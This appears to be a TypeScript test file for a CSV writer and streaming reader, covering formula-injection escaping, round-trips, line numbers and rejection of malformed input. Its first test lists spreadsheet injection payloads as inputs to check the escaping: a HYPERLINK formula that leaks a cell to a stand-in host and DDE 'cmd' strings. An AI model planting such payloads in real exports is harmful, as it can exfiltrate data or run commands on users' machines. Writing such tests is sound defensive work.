import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { csvRecords, csvText, malformedCsv } from "./csv.ts";

async function* bytesOf(text: string, size = 7): AsyncGenerator<Uint8Array> {
  const bytes = new TextEncoder().encode(text);
  for (let at = 0; at < bytes.length; at += size) yield bytes.subarray(at, at + size);
}

const read = async (text: string) => {
  const found: [number, ...string[]][] = [];
  for await (const { line, cells } of csvRecords(bytesOf(text))) found.push([line, ...cells]);
  return found;
};

test("what could be a formula is text, in whatever way it is hidden", () => {
  const hostile = [
    "=1+1",
    '=HYPERLINK("http://evil.example?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "＝1+1",
    "＠SUM(1)",
    "'=1",
  ];
  for (const cell of hostile) {
    expect(csvText([[cell]]).replace(/^"/, "")).toMatch(/^'/);
  }
});

test("numbers and telephone numbers stay as they are", () => {
  expect(csvText([["-3.50", "+49 (30) 12-34", -7, "'t Hooft", "a=b"]])).toBe(
    "-3.50,+49 (30) 12-34,-7,'t Hooft,a=b\r\n",
  );
});

test("null is empty; lists are JSON; quotes, commas and line ends are quoted", () => {
  expect(csvText([[null, undefined, true, [{ a: 1 }], 'say "hi", you', "a\nb"]])).toBe(
    ',,true,"[{""a"":1}]","say ""hi"", you","a\nb"\r\n',
  );
});

test("what was written is read as it was", async () => {
  const cell = fc.oneof(
    fc.string({ unit: "grapheme" }),
    fc.stringMatching(/^'*[=+\-@\t\r\n][ -~]*$/),
    fc.constantFrom("", '"', '""', ",", "\r\n", "'", "''", "\ufeff", "＝"),
  );
  const table = fc
    .integer({ min: 1, max: 4 })
    .chain((width) => fc.array(fc.array(cell, { minLength: width, maxLength: width })));
  await fc.assert(
    fc.asyncProperty(table, async (rows) => {
      // A line of nothing is no record.
      const filled = rows.map((row) => ["x", ...row]);
      const records = await read(csvText(filled));
      expect(records.map(([, ...cells]) => cells)).toEqual(filled);
    }),
  );
});

test("each record has the line on which it begins", async () => {
  const text = '\ufeffname,notes\r\n\r\nAda,"one\r\ntwo\nthree"\nGrace,\n\n\nHopper,x';
  expect(await read(text)).toEqual([
    [1, "name", "notes"],
    [3, "Ada", "one\r\ntwo\nthree"],
    [6, "Grace", ""],
    [9, "Hopper", "x"],
  ]);
});

describe("is refused:", () => {
  test.each([
    ["a quote that is never closed", 'name\n"Ada'],
    ["a quote in the middle", 'name\nA"da"'],
    ["a record without end", `name\n"${"x".repeat(200_000)}"`],
  ])("%s", async (_what, text) => {
    await expect(read(text)).rejects.toMatchObject({ code: malformedCsv.code });
    await expect(read(text)).rejects.not.toThrow(/Ada|xxx/);
  });

  test("what is not UTF-8", async () => {
    async function* latin1() {
      yield Uint8Array.of(0x6e, 0xe9, 0x0a);
    }
    const reading = async () => {
      for await (const _record of csvRecords(latin1())) expect.unreachable();
    };
    await expect(reading()).rejects.toMatchObject({ code: malformedCsv.code });
  });

  test("what can't be read to its end", async () => {
    async function* broken() {
      yield new TextEncoder().encode("name\nAda\n");
      throw new Error("the client went away");
    }
    const reading = async () => {
      for await (const _record of csvRecords(broken())) void 0;
    };
    await expect(reading()).rejects.toThrow("the client went away");
  });
});
